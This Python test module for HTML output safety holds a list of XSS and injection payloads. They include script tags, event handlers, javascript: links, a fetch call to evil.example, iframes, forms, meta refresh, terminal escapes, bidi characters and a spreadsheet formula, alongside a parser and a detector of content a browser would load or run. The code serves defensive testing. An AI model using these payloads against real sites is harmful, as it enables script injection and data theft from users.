"""What a page is made of, seen through an HTML parser, and texts that try to be more than text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>fetch('https://evil.example/x')</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)><a xlink:href='javascript:alert(4)'>x</a></svg>",
    "<a href='javascript:alert(5)'>click</a>",
    "[click](javascript:alert(6))",
    "![pixel](https://evil.example/pixel.png)",
    "<style>body{background:url(https://evil.example/css)}</style>",
    '"><iframe src=https://evil.example></iframe>',
    "' onmouseover='alert(7)' x='",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "</style></title></textarea><!--<script>alert(9)</script>-->",
    "</span></caption></table></details>",
    "{{ 7 * 7 }} {% for x in y %} ${1}",
    "</td><td style=position:fixed>over</td>",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
    "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth",
    "<form action=https://evil.example><input name=q></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '=HYPERLINK("https://evil.example")\x00\x08\x0c',
)
EVERYTHING = " ".join(ATTACKS)
_VOID = {"meta", "br", "hr", "img", "input", "link", "base"}


class Seen(HTMLParser):
    """Every element with its attributes, every text, and how deep the elements nest."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in _VOID and tag != "polyline":
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        elif tag != "polyline":
            self.unbalanced.append(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        """Elements with the names of their attributes."""
        return [(tag, tuple(sorted(attrs))) for tag, attrs in self.elements]

    @property
    def text(self) -> str:
        """All text."""
        return "".join(self.texts)


def loads(seen: Seen) -> list[str]:
    """Everything a browser would fetch by itself or run."""
    found = []
    for tag, attrs in seen.elements:
        for name, value in attrs.items():
            local = value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
            if name in ("src", "srcset", "data", "poster", "background", "action", "formaction") and not local:
                found.append(f"{tag} {name}={value[:80]}")
            if name.startswith("on") or re.match(r"\s*(javascript|vbscript|data:text)", value, re.IGNORECASE):
                found.append(f"{tag} {name}={value[:80]}")
            if name == "style" and re.search(r"url\(|expression|@import|[<>\"]", value):
                found.append(f"{tag} style={value[:80]}")
        if tag in ("link", "iframe", "object", "embed", "base", "form", "frame", "audio", "video"):
            found.append(tag)
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            found.append("meta refresh")
    return found
